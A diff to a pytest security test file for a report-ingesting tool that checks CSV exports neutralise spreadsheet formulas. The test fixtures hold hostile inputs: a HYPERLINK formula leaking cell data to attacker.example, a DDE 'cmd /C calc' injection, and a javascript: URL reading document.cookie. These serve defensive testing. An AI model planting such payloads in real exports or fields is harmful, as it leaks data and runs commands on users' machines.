@@ -23,7 +23,7 @@ from pathlib import Path
 
 import httpx
 import pytest
-from conftest import clean
+from conftest import clean, fixture_report
 from fastapi.testclient import TestClient
 from sqlalchemy import select, update
 
@@ -44,16 +44,18 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 
 
 @pytest.fixture(scope="module")
-def store(tmp_path_factory: pytest.TempPathFactory, founding_text: str) -> Iterator[Store]:
-    """The founding report twice: once with hostile metadata (a formula as the outlet, a
-    `javascript:` URL), once plain with an https URL."""
+def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
+    """Two reports of one strike: one with hostile metadata (a formula as the outlet, a
+    `javascript:` URL), one plain with an https URL."""
     opened = Store(str(tmp_path_factory.mktemp("security") / "rasd.db"))
     opened.ingest([
-        Report(founding_text, "hostile.txt", id="-2+3*cmd|' /C calc'!A0", source=FORMULA,
+        Report(fixture_report("saraqeb_strike.txt"), "hostile.txt",
+               id="-2+3*cmd|' /C calc'!A0", source=FORMULA,
                url="javascript:alert(document.cookie)", title="@SUM(1+1)",
                published=dt.date(2019, 5, 11)),
-        Report(founding_text + "\nتحديث", "plain.txt", id="plain", source="plain-outlet",
-               url="https://example.org/report", published=dt.date(2019, 5, 11)),
+        Report(fixture_report("saraqeb_second_outlet.txt"), "plain.txt", id="plain",
+               source="plain-outlet", url="https://example.org/report",
+               published=dt.date(2019, 5, 11)),
     ])
     for role in ("viewer", "reviewer", "admin"):
         create_user(opened.engine, role, PASSWORD, role)
@@ -318,10 +320,9 @@ def test_cli_csv_holds_no_formula(edited: Store, runner) -> None:  # type: ignor
         _assert_inert(result.stdout, kept=args[0] != "incidents")
 
 
-def test_cli_extract_csv_neutralises(runner, tmp_path: Path,  # type: ignore[no-untyped-def]
-                                     founding_text: str) -> None:
+def test_cli_extract_csv_neutralises(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     report = tmp_path / "r.txt"
-    report.write_text(founding_text, encoding="utf-8")
+    report.write_text(fixture_report("saraqeb_strike.txt"), encoding="utf-8")
     result = clean(runner.invoke(cli, ["extract", str(report), "--format", "csv"]))
     assert result.exit_code == 0
     assert not [c for c in _cells(result.stdout) if c.startswith(FORMULA_STARTS)]
